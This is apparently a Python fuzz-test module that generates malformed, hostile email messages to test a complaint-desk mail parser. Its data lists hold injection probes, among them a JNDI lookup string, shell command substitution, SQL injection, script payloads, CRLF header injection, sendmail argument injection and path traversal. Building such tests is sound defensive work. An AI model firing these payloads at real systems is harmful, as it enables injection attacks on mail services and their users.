"""Mails put together out of what strangers should not write, by any source of chance.

`chance` is `random.Random`, or hypothesis in its place: then a mail that breaks something shrinks.
"""

from __future__ import annotations

import base64
from random import Random

TOO_FAR = "\u202emoc.live\u202c"
CANARY = "{{ 7*'7' }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*7}<%= 7*7 %>"
WORDS = [
    "klacht", "Lampenzolder", "lampenzolder.be", "atelierbrindille.be", "kraanvogel-reizen.be",
    "wollkorb-eupen.be", "Ik bestelde een lamp bij lampenzolder.be op 2 februari 2026. Ze is stuk.",
    "Op 10 februari heb ik de winkel gemaild, maar ik kreeg nooit antwoord.",
    "J'ai commandé chez atelierbrindille.be, j'ai écrit le 3 février et je n'ai pas reçu de réponse.",
    "Ich habe bei wollkorb-eupen.be bestellt und am 3. Februar geschrieben, keine Antwort.",
    "I wrote to the shop on 3 February 2026 and they refused.", "opgelost, bedankt",
    "ik trek mijn klacht in", "ja", CANARY, "{{", "{%", "{#", "${jndi:ldap://a.example/b}", "%s%n%x",
    "$(id)", "`id`", "'; DROP TABLE letters; --", "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "</td></tr></table><h6>groot</h6>", "<!--", "]]>",
    '"><a href="javascript:alert(1)">klik</a>', "[klik](javascript:alert(1))", "**vet**", "## kop", "---",
    "- punt", "> aanhaling", "Subject: ander onderwerp", "Bcc: slachtoffer@elders.example", "Fact: a | b",
    "\\ ", "\\", "\x1b[2J", "\x1b]0;eigenaar\x07", "\x1b]8;;http://evil.example\x1b\\", "\x9b31m",
    "\x90q\x9c", "\x07", "\x08" * 9, TOO_FAR, "\u2066\u2069\u200b\ufeff\u00ad", "\U000e0041\U000e007f",
    "\x00", "a\x00b", "\x02\x03\x0e\x0f", "\x7f", "\x85", "\u2028", "\u2029", "\x0b\x0c\x1c\x1d\x1e",
    "\ufffe\uffff\ufdd0", "\ue000\ue001\ue002", "e" + "\u0301" * 200, "ﷺ" * 30, "İıſK", "ǅ", "👩‍👩‍👧‍👦",
    "字" * 400, "a" * 2_000, "é" * 1_100, " " * 1_200, "\t" * 300, "\r", "\r\n", "\n", "\n\n", "\r\n.\r\n",
    "\n.\nMAIL FROM:<a@b.example>", "\nFrom a@b.example Mon Mar  2 09:00:00 2026", "-- ", "Van: a@b.example",
    "Op 3 maart 2026 om 11:14 schreef W <i@w.example>:", "99999999999999999999", "31/02/2026",
    "op 0 maart 0000", "op 99 mei 9999", "1/1/1", "http://[::1", "https://xn--a.example/%00",
    "http://a.example:99999999/", "@", "a@", "@b", "KL-2026-AAAAAA",
    "klachten+aaaaaaaaaaaaaaaa@desk.example", "Ꮮampenzolder", "lampenzolder。be", "ｌampenzolder.be",
]  # fmt: skip
RAW = [
    b"\xff\xfe", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"\x80", b"\xe9", b"+2AA-", b"\x1b$B",
    b"\x00", b"\r", b"=00", b"=\r\n", b"=0D=0ABcc: x@y.example", b"=1B[2J", b"%00", b"&#0;", b"&#xD800;",
    b"&#x1b;[2J", b"&#13;&#10;",
]  # fmt: skip
ENCODED = [
    "=?utf-8?Q?a=0D=0ABcc:_slachtoffer@elders.example?=", "=?utf-8?B?DQpCY2M6IHNAdC5leGFtcGxl?=",
    "=?utf-8?Q?=00=1B[2J=07?=", "=?utf-8?Q?=E2=80=AEmoc?=", "=?utf-8?Q?=ED=A0=80?=", "=?utf-16?B?2AA=?=",
    "=?utf-7?Q?+2AA-?=", "=?x?Q?a?=", "=?utf-8?Q?a", "=?utf-8?B?!!!?=", "=?utf-8?Q??=", "=?=?=?=",
    "=?utf-8?Q?=3D=3Futf-8=3FQ=3F=3D0A=3F=3D?=", "=?us-ascii*nl?Q?a?=",
    "=?utf-8?Q?a?= =?utf-8?Q?=C3?= =?utf-8?Q?=A9?=", "=?idna?Q?xn--a?=", "=?unicode_escape?Q?=5Cud800?=",
    "=?rot13?Q?a?=",
]  # fmt: skip
ADDRESSES = [
    "ann@mail.example", "Ann <ann@mail.example>", '"a\r\n b" <ann@mail.example>',
    '"Ann\\"" <a"b@mail.example>', "<>", "", ",", ";", "Ann <ann@mail.example>, Bob <bob@mail.example>",
    "(c(d)e) ann@(x)mail.example (f)", '"a b"@mail.example', "ann@[127.0.0.1]",
    "ann@mail.example\r\nBcc: slachtoffer@elders.example", "ann@mail.example>\nBcc: <s@elders.example",
    "ann@mail..example", "ann@-mail.example", "ann@xn--\x80.example", "jörg@müller.example",
    "ann@" + "a" * 300 + ".example", "a" * 300 + "@mail.example", "ann@mail.example\x00",
    "\x1b[2J <ann@mail.example>", TOO_FAR + " <ann@mail.example>", "groep: a@b.example, c@d.example;",
    "undisclosed-recipients:;", "<@a.example,@b.example:ann@mail.example>",
    "ann@mail.example <bob@mail.example>", "ann", "@", "klachten@desk.example", "dossiers@desk.example",
    "klantendienst@lampenzolder.be", "MAILER-DAEMON@mail.example", CANARY + " <ann@mail.example>",
    "<script> <ann@mail.example>", "ann+b@mail.example", "ann@mail.example.", "ann@MAIL.EXAMPLE",
    "-oQ/tmp@mail.example", "|id@mail.example", "ann%elders.example@mail.example", "ann!x@mail.example",
    "ann@m.example@n.example",
]  # fmt: skip
FIELDS = [
    "Subject", "From", "To", "Cc", "Bcc", "Reply-To", "Sender", "Message-ID", "In-Reply-To", "References",
    "Date", "Received", "Return-Path", "Delivered-To", "Auto-Submitted", "Precedence", "List-Id", "X-Loop",
    "Authentication-Results", "Resent-From", "Content-Type", "Content-Transfer-Encoding",
    "Content-Disposition", "MIME-Version", "X-" + "a" * 900, "Subject ", "é", "Disposition-Notification-To",
    "X-Original-To", "Content-ID", "",
]  # fmt: skip
CHARSETS = [
    "utf-8", "us-ascii", "iso-8859-1", "windows-1252", "utf-16", "utf-7", "utf-32", "hz", "iso-2022-jp",
    "cp037", "idna", "punycode", "unicode_escape", "base64", "rot13", "undefined", "x" * 200, "", '"',
    "utf-8\x00", "gb18030", "utf8mb4", "é",
]  # fmt: skip
ENCODINGS = [
    "7bit",
    "8bit",
    "binary",
    "base64",
    "quoted-printable",
    "x-uuencode",
    "BASE64 ",
    "gzip",
    "",
    "base64, base64",
]
TYPES = [
    "text/plain", "text/html", "text/plain; format=flowed", "text/plain; format=flowed; delsp=yes",
    "text/enriched", "text/calendar; method=REQUEST", "multipart/alternative; boundary=b",
    "multipart/mixed; boundary=b", 'multipart/mixed; boundary=""',
    "multipart/report; report-type=delivery-status; boundary=b",
    "multipart/report; report-type=disposition-notification; boundary=b", "multipart/signed; boundary=b",
    "multipart/related; boundary=b", "multipart/mixed", "message/rfc822", "message/delivery-status",
    "message/partial; id=a; number=1; total=2",
    "message/external-body; access-type=local-file; name=/etc/passwd", "application/pdf; name=a.pdf",
    "application/ms-tnef; name=winmail.dat", "application/octet-stream; name*0*=utf-8''%0D%0A; name*1=b",
    "image/png", "text/", "/", "a", 'application/zip; name="../../etc/passwd\r\n"', "text/plain; name=a.eml",
    "text/html; charset", "text/plain; charset*=utf-8'x'%ff",
]  # fmt: skip
NAMES = [
    "../../a",
    "a\r\nX: y",
    "a\x00.pdf",
    TOO_FAR,
    "con.txt",
    "a" * 400,
    '"',
    "=?utf-8?Q?=0D=0A?=",
    CANARY,
    "\x1b[2J.pdf",
    ".eml",
    "",
]


def nasty_mail(chance: Random) -> bytes:
    """A mail of hostile pieces that still resembles one, so that it comes past the first look."""
    lines = [b"Received: from mx by mx.desk.example; Mon, 02 Mar 2026 09:00:00 +0100"]
    lines.append(b"From: " + _octets(chance, chance.choice(ADDRESSES)))
    if chance.random() < 0.3:
        lines.append(b"Reply-To: " + _octets(chance, chance.choice(ADDRESSES)))
    lines.append(
        b"To: " + _octets(chance, chance.choice(["klachten@desk.example", chance.choice(ADDRESSES)]))
    )
    lines.append(b"Subject: " + _octets(chance, _phrase(chance, chance.choice([1, 2, 4]))))
    for _ in range(chance.choice([0, 0, 1, 2, 5])):
        value = chance.choice(
            [chance.choice(ADDRESSES), chance.choice(ENCODED), _phrase(chance, 2), chance.choice(TYPES)]
        )
        lines.append(chance.choice(FIELDS).encode() + b": " + _octets(chance, value))
    chance.shuffle(lines)
    end = chance.choice([b"\r\n", b"\r\n", b"\n", b"\r"])
    return end.join(lines) + end + _entity(chance, 0, end)


def _entity(chance: Random, depth: int, end: bytes) -> bytes:
    kind = chance.choice(["text/plain", chance.choice(TYPES)])
    charset, encoding = (
        chance.choice(["utf-8", chance.choice(CHARSETS)]),
        chance.choice(["8bit", chance.choice(ENCODINGS)]),
    )
    head = f"Content-Type: {kind}" + (f"; charset={charset}" if chance.random() < 0.7 else "")
    fields = [head.encode("utf-8", "replace"), b"Content-Transfer-Encoding: " + encoding.encode()]
    if chance.random() < 0.2:
        name = chance.choice(NAMES)
        fields.append(
            f'Content-Disposition: {chance.choice(["inline", "attachment"])}; filename="{name}"'.encode()
        )
    start = end.join(fields) + end + end
    if kind.startswith("multipart") and depth < 3:
        parts = [_entity(chance, depth + 1, end) for _ in range(chance.choice([0, 1, 2, 3]))]
        return (
            start
            + b"".join(b"--b" + end + part + end for part in parts)
            + chance.choice([b"--b--", b"", b"--b"])
            + end
        )
    if kind == "message/rfc822" and depth < 3:
        return start + nasty_mail(chance)
    body = _octets(chance, _phrase(chance, chance.choice([1, 3, 8, 20]), end.decode()), charset)
    if "base64" in encoding.lower() and chance.random() < 0.8:
        body = base64.encodebytes(body)
    return start + body


def _phrase(chance: Random, count: int, end: str = " ") -> str:
    pieces = [chance.choice(WORDS if chance.random() < 0.9 else ENCODED) for _ in range(count)]
    return "".join(piece + chance.choice([" ", " ", end, ""]) for piece in pieces)


def _octets(chance: Random, text: str, charset: str = "utf-8") -> bytes:
    try:
        data = text.encode(charset if chance.random() < 0.5 else "utf-8", "replace")
    except (LookupError, ValueError):
        data = text.encode("utf-8", "replace")
    if chance.random() < 0.2:
        place = chance.randrange(len(data) + 1)
        data = data[:place] + chance.choice(RAW) + data[place:]
    return data


def mutated(chance: Random, seed: bytes) -> bytes:
    """A real mail with a few wounds: pieces cut out, put twice, exchanged, or put in from the lists above."""
    data = seed
    for _ in range(chance.choice([1, 2, 4, 8])):
        place, length = chance.randrange(len(data) + 1), chance.choice([0, 1, 3, 20, 200])
        new = chance.choice(
            [
                chance.choice(RAW),
                chance.choice(WORDS).encode(),
                chance.choice(ENCODED).encode(),
                b"",
                data[place : place + length] * 2,
                chance.choice(FIELDS).encode() + b": ",
                chance.choice(ADDRESSES).encode(),
                bytes([chance.randrange(256)]),
                b"\r\n",
            ]
        )
        data = data[:place] + new + data[place + length :]
    return data
